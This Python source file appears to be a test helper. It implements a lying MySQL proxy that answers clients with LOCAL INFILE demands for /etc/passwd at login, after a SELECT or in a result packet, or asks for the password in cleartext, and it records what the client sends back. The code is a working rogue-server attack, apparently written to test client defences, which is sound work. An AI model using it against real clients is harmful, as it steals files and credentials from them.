# SPDX-License-Identifier: Apache-2.0
"""A MySQL server that wants more than it should get: a proxy that lies."""
import socket
import threading

WANTED = b"/etc/passwd"


class Hostile:
    """mode: login, select, name (LOCAL INFILE at these moments) or clear (asks for the password as it is)."""

    def __init__(self, server_socket, mode):
        self.upstream, self.mode = server_socket, mode
        self.heard = b""        # all that a client said
        self.asked = False
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def close(self):
        self.listener.close()

    def accept(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(client,), daemon=True).start()

    @staticmethod
    def packet(sock):
        head = b""
        while len(head) < 4:
            got = sock.recv(4 - len(head))
            if not got:
                return None, None
            head += got
        size, body = int.from_bytes(head[:3], "little"), b""
        while len(body) < size:
            got = sock.recv(size - len(body))
            if not got:
                return None, None
            body += got
        return head[3], body

    @staticmethod
    def send(sock, sequence, body):
        sock.sendall(len(body).to_bytes(3, "little") + bytes([sequence]) + body)

    def hear_out(self, client):
        """What does the client say to our demand?"""
        client.settimeout(5)
        try:
            while True:
                got = client.recv(65536)
                if not got:
                    return
                self.heard += got
        except OSError:
            pass

    def serve(self, client):
        server = socket.socket(socket.AF_UNIX)
        server.connect(self.upstream)
        lock = threading.Lock()

        def back():
            first = True
            while True:
                sequence, body = self.packet(server)
                if body is None:
                    break
                if first:       # our greeting offers no TLS
                    first = False
                if self.mode == "name" and body[:1] == b"\xfb" and len(body) < 200 and sequence == 1:
                    body, self.asked = b"\xfb" + WANTED, True
                with lock:
                    self.send(client, sequence, body)
            client.close()
        threading.Thread(target=back, daemon=True).start()
        login = True
        try:
            while True:
                sequence, body = self.packet(client)
                if body is None:
                    break
                self.heard += body
                demand = None
                if login and self.mode in ("login", "clear"):
                    demand = (b"\xfb" + WANTED if self.mode == "login" else
                              b"\xfemysql_clear_password\0\0")
                elif not login and self.mode == "select" and body[:7].upper() == b"\x03SELECT":
                    demand = b"\xfb" + WANTED
                login = False
                if demand is not None:
                    self.asked = True
                    with lock:
                        self.send(client, sequence + 1, demand)
                    self.hear_out(client)
                    break
                self.send(server, sequence, body)
        except OSError:
            pass
        server.close()
        client.close()
